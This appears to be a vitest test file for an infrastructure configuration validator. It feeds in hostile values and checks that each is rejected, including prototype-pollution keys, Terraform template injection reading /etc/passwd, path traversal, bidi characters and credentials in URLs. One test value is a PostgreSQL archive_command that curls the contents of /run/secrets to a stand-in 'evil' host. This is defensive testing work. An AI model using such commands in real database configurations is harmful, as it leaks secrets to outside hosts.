/**
 * Hostile inputs: values built to break the configuration check itself (prototype keys, Terraform
 * template and cdktf token markers, control and invisible characters, oversized values, bind-spec
 * separators, names too long for Swarm, incomplete releases files). Each is refused with a problem
 * naming its key (config path or variable) and the fix, never a TypeError or a stack trace; the
 * legitimate values next to them still pass.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { loadEnvironmentConfig, validateEnvironmentConfig, type EnvironmentName } from "../../environments/load";
import { COMMITTED_RELEASES_FILE } from "../../environments/prod";
import { CONNECTION_SECRET_NAMES, SERVICE_NAME_MAX, type EnvironmentConfig } from "../../environments/schema";
import { hasUrlCredentials } from "../../constructs/contract";
import { normalizePostgresSetting } from "../../constructs/postgres";
import { configProblems, loadProblems, mutatedProblems, problemAt } from "../support/config-problems";
import { sharedEnvironment } from "../support/stacks";

const VALID: Record<EnvironmentName, EnvironmentConfig> = {
  dev: loadEnvironmentConfig("dev", {}),
  test: loadEnvironmentConfig("test", {}),
  prod: loadEnvironmentConfig("prod", {}),
};
const TMP = mkdtempSync(join(tmpdir(), "hostile-inputs-"));
afterAll(() => rmSync(TMP, { recursive: true, force: true }));

/** `JSON.parse` keeps "__proto__" as an own key (an object literal would set the prototype instead). */
const withProtoKey = (record: Record<string, unknown>, value: unknown): Record<string, unknown> =>
  JSON.parse(JSON.stringify(record).replace(/^\{/, `{"__proto__":${JSON.stringify(value)}${Object.keys(record).length > 0 ? "," : ""}`));

describe("variables keyed by prototype member names (A)", () => {
  it.each([
    ["dev", "UPDATEIO_DEV_constructor"],
    ["dev", "UPDATEIO_DEV___proto__"],
    ["dev", "UPDATEIO_DEV_toString"],
    ["test", "UPDATEIO_TEST_hasOwnProperty"],
    ["prod", "UPDATEIO_PROD_valueOf"],
  ] as const)("%s: %s=1 is an unknown variable, named", (env, variable) => {
    expect(problemAt(loadProblems(env, { [variable]: "1" }), variable)).toMatch(/is not a variable \w+ reads; \w+ reads UPDATEIO_/);
  });

  it.each(["constructor", "__proto__", "CONSTRUCTOR"])("a boolean variable set to %s is not on or off", (value) => {
    expect(problemAt(loadProblems("dev", { UPDATEIO_DEV_VPN: value }), "UPDATEIO_DEV_VPN")).toMatch(
      /is not on or off; write 1\/0, true\/false, yes\/no or on\/off/,
    );
  });
});

interface Case {
  readonly env: EnvironmentName;
  readonly mutate: (c: any) => void;
  /** The config key path the problem must start with. */
  readonly key: string;
  readonly says: RegExp;
}

const TEMPLATE = /Terraform templates are not allowed in/;
const CONTROL = /contains a control character .* on one line with visible characters only/;
const MOUNT = /write an absolute path inside the container such as \/app/;

const CASES: Record<string, Case> = {
  // B: setting names that are members of Object.prototype
  "postgres.settings.constructor": {
    env: "dev",
    mutate: (c) => (c.postgres.settings = { constructor: "x" }),
    key: "postgres.settings.constructor",
    says: /is not a PostgreSQL setting this project knows/,
  },
  "postgres.settings.constructor (a number, prod)": {
    env: "prod",
    mutate: (c) => (c.postgres.settings = { constructor: 1 }),
    key: "postgres.settings.constructor",
    says: /is not a PostgreSQL setting this project knows/,
  },
  "a unit named after a prototype member": {
    env: "dev",
    mutate: (c) => (c.postgres.settings = { autovacuum_vacuum_cost_delay: "5toString" }),
    key: "postgres.settings.autovacuum_vacuum_cost_delay",
    says: /takes the units ms, s, min, h, d/,
  },
  // D: Terraform templates and cdktf token markers in free text
  "env value: cdktf token marker": {
    env: "dev",
    mutate: (c) => (c.services.api.env.LEAK = "${TfToken[TOKEN.17]}"),
    key: "services.api.env.LEAK",
    says: TEMPLATE,
  },
  "env value: bare TfToken marker": {
    env: "dev",
    mutate: (c) => (c.services.api.env.LEAK = "TfToken[TOKEN.17]"),
    key: "services.api.env.LEAK",
    says: TEMPLATE,
  },
  "env value: Terraform function": {
    env: "prod",
    mutate: (c) => (c.services.api.env.LEAK = '${file("/etc/passwd")}'),
    key: "services.api.env.LEAK",
    says: TEMPLATE,
  },
  "env value: template directive": {
    env: "test",
    mutate: (c) => (c.services["mini-app"].env.LEAK = "%{ for x in y }"),
    key: "services.mini-app.env.LEAK",
    says: TEMPLATE,
  },
  "env value: escaped template": {
    env: "dev",
    mutate: (c) => (c.services.api.env.SHELL_HOME = "$${HOME}"),
    key: "services.api.env.SHELL_HOME",
    says: TEMPLATE,
  },
  "devCommand item": {
    env: "dev",
    mutate: (c) => (c.services.api.image.devCommand = ["sh", "-c", "echo ${var.x}"]),
    key: "services.api.image.devCommand.2",
    says: TEMPLATE,
  },
  "migrations.command item": {
    env: "prod",
    mutate: (c) => (c.migrations.command = ["npx", "${TfToken[TOKEN.3]}"]),
    key: "migrations.command.1",
    says: TEMPLATE,
  },
  "mountPath with a template": {
    env: "dev",
    mutate: (c) => (c.services.api.image.mountPath = "/app${x}"),
    key: "services.api.image.mountPath",
    says: MOUNT,
  },
  // C: settings the platform sets itself
  ...Object.fromEntries(
    [
      ["archive_command", "curl http://evil/$(cat /run/secrets/*) ; true", /walArchiveSettings/],
      ["archive_mode", "off", /walArchiveSettings/],
      ["archive_timeout", "60", /walArchiveSettings/],
      ["archive_library", "basic_archive", /walArchiveSettings/],
      ["restore_command", "cp /x %p", /point-in-time restores write it/],
      ["wal_level", "minimal", /walArchiveSettings/],
      ["hba_file", "/tmp/hba", /renders pg_hba\.conf/],
      ["password_encryption", "md5", /scram-sha-256/],
    ].map(([name, value, where]) => [
      `postgres.settings.${String(name)}`,
      {
        env: "prod",
        mutate: (c: any) => (c.postgres.settings = { [String(name)]: value }),
        key: `postgres.settings.${String(name)}`,
        says: new RegExp(`is set by the platform \\(.*${(where as RegExp).source}.*\\); remove it from postgres\\.settings`),
      } satisfies Case,
    ]),
  ),
  "managed by PostgresCluster": {
    env: "dev",
    mutate: (c) => (c.postgres.settings = { primary_conninfo: "host=evil" }),
    key: "postgres.settings.primary_conninfo",
    says: /is set by PostgresCluster/,
  },
  // F: mount paths
  ...Object.fromEntries(
    ["/app:/etc", "/app:ro", "/app,z", "/app\nx", "/my app", "/../../etc", "/app/../etc", "/./app", "/", "//app", "app", "/app/"].map(
      (path) => [
        `mountPath ${JSON.stringify(path)}`,
        {
          env: "dev",
          mutate: (c: any) => (c.services.api.image.mountPath = path),
          key: "services.api.image.mountPath",
          says: MOUNT,
        } satisfies Case,
      ],
    ),
  ),
  // E: control and invisible characters, size
  ...Object.fromEntries(
    [
      ["NUL", "a\u0000b"],
      ["newline", "a\nb"],
      ["carriage return", "a\rb"],
      ["tab", "a\tb"],
      ["escape", "a\u001b[31mb"],
      ["DEL", "a\u007fb"],
      ["line separator", "a\u2028b"],
      ["zero-width space", "a\u200bb"],
      ["right-to-left override", "a\u202eb"],
      ["right-to-left isolate", "a\u2067b"],
      ["byte order mark", "\ufeffab"],
    ].map(([what, value]) => [
      `env value with ${what}`,
      { env: "dev", mutate: (c: any) => (c.services.api.env.TEXT = value), key: "services.api.env.TEXT", says: CONTROL } satisfies Case,
    ]),
  ),
  "env value of 200 kB, many schemes and no @ (no quadratic scan)": {
    env: "dev",
    mutate: (c) => (c.services.api.env.BIG = "a://".repeat(50_000)),
    key: "services.api.env.BIG",
    says: /is longer than 4096 characters/,
  },
  "env value of 200 kB": {
    env: "dev",
    mutate: (c) => (c.services.api.env.BIG = "x".repeat(200_000)),
    key: "services.api.env.BIG",
    says: /is longer than 4096 characters/,
  },
  "devCommand item with a newline": {
    env: "dev",
    mutate: (c) => (c.services.api.image.devCommand = ["npm", "run\ndev"]),
    key: "services.api.image.devCommand.1",
    says: CONTROL,
  },
  "migrations.command item of 5000 characters": {
    env: "test",
    mutate: (c) => (c.migrations.command = ["npx", "a".repeat(5000)]),
    key: "migrations.command.1",
    says: /is longer than 4096 characters/,
  },
  "migrations.command item with a bidi override": {
    env: "prod",
    mutate: (c) => (c.migrations.command = ["npx", "prisma\u202e"]),
    key: "migrations.command.1",
    says: CONTROL,
  },
  // G: service names too long for Swarm's object names
  "a service name one character too long": {
    env: "prod",
    mutate: (c) => {
      c.services["a".repeat(SERVICE_NAME_MAX + 1)] = c.services.api;
      delete c.services.api;
      c.migrations.service = "a".repeat(SERVICE_NAME_MAX + 1);
    },
    key: `services.${"a".repeat(SERVICE_NAME_MAX + 1)}`,
    says: /must be at most 22 characters: on Swarm each secret is named <env>-<service>-<secret>-<12 hex> in at most 64 characters/,
  },
  "a 40-character service name": {
    env: "prod",
    mutate: (c) => {
      c.services[`discord-bot-${"x".repeat(28)}`] = c.services["discord-bot"];
      delete c.services["discord-bot"];
    },
    key: `services.discord-bot-${"x".repeat(28)}`,
    says: /must be at most 22 characters/,
  },
  "a service secret too long for its service": {
    env: "prod",
    mutate: (c) =>
      c.services["telegram-bot"].secrets.push({
        name: "a_very_long_secret_name_for_a_bot_x",
        envVar: "LONG_FILE",
        generate: { length: 32 },
      }),
    key: "services.telegram-bot.secrets.2.name",
    says: /is too long for this service: on Swarm the secret is named <env>-telegram-bot-a_very_long_secret_name_for_a_bot_x-<12 hex>/,
  },
  // I: "__proto__" as an own key, credentials in a URL
  "services.__proto__": {
    env: "dev",
    mutate: (c) => (c.services = withProtoKey(c.services, c.services.api)),
    key: "services.__proto__",
    says: /"__proto__" is never a valid name here: remove it/,
  },
  "env.__proto__": {
    env: "prod",
    mutate: (c) => (c.services.api.env = withProtoKey(c.services.api.env, "x")),
    key: "services.api.env.__proto__",
    says: /is not an environment variable name/,
  },
  "features.__proto__": {
    env: "test",
    mutate: (c) => (c.services.api.features = withProtoKey(c.services.api.features, true)),
    key: "services.api.features.__proto__",
    says: /is not a feature flag name/,
  },
  "postgres.settings.__proto__": {
    env: "dev",
    mutate: (c) => (c.postgres.settings = withProtoKey({ work_mem: "4MB" }, { archive_command: "x" })),
    key: "postgres.settings.__proto__",
    says: /is not a PostgreSQL setting name/,
  },
  "a password with a slash in a URL": {
    env: "dev",
    mutate: (c) => (c.services.api.env.DB = "postgresql://admin:s3cr/et@db/x"),
    key: "services.api.env.DB",
    says: /contains credentials in a URL .* declare the URL under secrets/,
  },
  "a token as the URL's user": {
    env: "prod",
    mutate: (c) => (c.services.api.env.REPO = "https://ghp_xxx@github.com/updateio/api.git"),
    key: "services.api.env.REPO",
    says: /contains credentials in a URL/,
  },
  "user and password in a URL": {
    env: "test",
    mutate: (c) => (c.services.api.env.CACHE = "redis://user:pw@redis:6379/0"),
    key: "services.api.env.CACHE",
    says: /contains credentials in a URL/,
  },
};

describe("hostile config values are refused with their key and the fix", () => {
  it.each(Object.entries(CASES))("%s", (_name, { env, mutate, key, says }) => {
    expect(problemAt(mutatedProblems(env, VALID[env], mutate), key)).toMatch(says);
  });
});

describe("legitimate values still pass", () => {
  const LEGIT: Record<string, { env: EnvironmentName; mutate: (c: any) => void }> = {
    "env values with $, %, braces apart, URLs without userinfo, non-ASCII text, 4096 characters": {
      env: "dev",
      mutate: (c) =>
        Object.assign(c.services.api.env, {
          PRICE: "$5 and 100%",
          BRACES: "{ json: true }",
          SHELL_VAR: "$HOME/x",
          PUBLIC_URL: "https://api.updateio.app/v1?x=1&y=2#z",
          MASTODON: "mail me at ops@updateio.app",
          GREETING: "Grüße — 你好 — مرحبا",
          LONG: "x".repeat(4096),
          EMPTY: "",
        }),
    },
    "devCommand and mountPath": {
      env: "dev",
      mutate: (c) => {
        c.services.api.image.devCommand = ["node", "--watch", "--inspect=0.0.0.0:9229", "dist/main.js"];
        c.services.api.image.mountPath = "/srv/my-app_1.2/src";
      },
    },
    "migrations.command": {
      env: "prod",
      mutate: (c) => (c.migrations.command = ["npx", "prisma", "migrate", "deploy", "--schema=prisma/schema.prisma"]),
    },
    "tunable postgres settings": {
      env: "prod",
      mutate: (c) =>
        (c.postgres.settings = {
          work_mem: "8MB",
          log_min_duration_statement: 250,
          log_line_prefix: "%m [%p] ",
          max_slot_wal_keep_size: "8GB",
        }),
    },
    "service names of 22 characters and the bench copies": {
      env: "prod",
      mutate: (c) => {
        for (const name of ["discord-bot", "telegram-bot", "admin-panel", "mini-app"])
          c.services[`${name}-x50`] = { ...structuredClone(c.services[name]), routes: [] };
        c.services["a-service-named-22-chr"] = structuredClone(c.services.api);
        c.services["a-service-named-22-chr"].routes = [];
      },
    },
  };
  it.each(Object.entries(LEGIT))("%s", (_name, { env, mutate }) => {
    expect(mutatedProblems(env, VALID[env], mutate)).toEqual([]);
  });

  it("the real configurations pass", () => {
    for (const env of ["dev", "test", "prod"] as const)
      expect(configProblems(() => validateEnvironmentConfig(VALID[env], env))).toEqual([]);
  });

  it("the URL credentials check admits URLs without userinfo", () => {
    for (const ok of ["https://api.updateio.app/@alice", "http://host:8080/x", "redis://redis:6379/0", "user@example.com"])
      expect(hasUrlCredentials(ok), ok).toBe(ok === "https://api.updateio.app/@alice");
  });

  it("units named after prototype members are no units", () => {
    expect(normalizePostgresSetting("work_mem", "4constructor")).toHaveProperty("problem");
    expect(normalizePostgresSetting("work_mem", "4MB")).toEqual({ setting: "4096" });
  });
});

describe("a releases file that lacks a service (H)", () => {
  const committed = JSON.parse(readFileSync(join(__dirname, "..", "..", COMMITTED_RELEASES_FILE), "utf8"));
  it.each([
    ["prod", ["discord-bot"]],
    ["test", ["discord-bot", "mini-app"]],
  ] as const)("%s: every missing service is named, with the file read and the variable", (env, missing) => {
    const file = join(TMP, `${env}-releases.json`);
    const images = { ...committed.images };
    for (const s of missing) delete images[s];
    writeFileSync(file, JSON.stringify({ ...committed, images }));
    const variable = `UPDATEIO_${env.toUpperCase()}_RELEASES_FILE`;
    const lines = loadProblems(env, { [variable]: file });
    for (const s of missing) {
      const line = lines.find((l) => l.includes(`images.${s}: missing`));
      expect(line, lines.join("\n")).toBeDefined();
      expect(line!.startsWith(`${variable} (environment variable): ${file}: images.${s}: missing; add "${s}": `)).toBe(true);
      expect(line).not.toContain(`${COMMITTED_RELEASES_FILE} has no image`);
    }
  });

  it("a complete releases file is accepted", () => {
    const file = join(TMP, "complete-releases.json");
    writeFileSync(file, JSON.stringify(committed));
    expect(loadProblems("prod", { UPDATEIO_PROD_RELEASES_FILE: file })).toEqual([]);
  });

  it('an images key "constructor" is not a service image', () => {
    const file = join(TMP, "proto-releases.json");
    writeFileSync(file, JSON.stringify({ ...committed, images: { ...committed.images, constructor: committed.images.api } }));
    expect(problemAt(loadProblems("prod", { UPDATEIO_PROD_RELEASES_FILE: file }), "UPDATEIO_PROD_RELEASES_FILE")).toMatch(
      /images\.constructor: not a service of the catalogue/,
    );
  });
});

describe("the service-name bound follows the secrets the stores really give", () => {
  // SERVICE_NAME_MAX is computed from CONNECTION_SECRET_NAMES; a store that gains a longer secret must grow the list.
  it("every Swarm secret of an app service in prod is one of its own or a listed connection secret", () => {
    const { json } = sharedEnvironment("prod");
    const services = VALID.prod.services;
    const unlisted: string[] = [];
    let checked = 0;
    for (const secret of Object.values(json.resource.docker_secret ?? {})) {
      // "prod-<service>-<secret>-" then the hash (inside join() when the content is generated): secret names have no dash.
      const base = /prod-([a-z0-9-]+)-([a-z0-9_]+)-(?:"|[0-9a-f]{12}$)/.exec(String((secret as { name: unknown }).name));
      if (!base || !Object.hasOwn(services, base[1]!)) continue;
      const [, service, name] = base;
      checked++;
      const own = services[service!]!.secrets.map((s) => s.name);
      if (!own.includes(name!) && !(CONNECTION_SECRET_NAMES as readonly string[]).includes(name!)) unlisted.push(`${service}: ${name}`);
    }
    expect(checked).toBeGreaterThan(20);
    expect(unlisted).toEqual([]);
  });
});
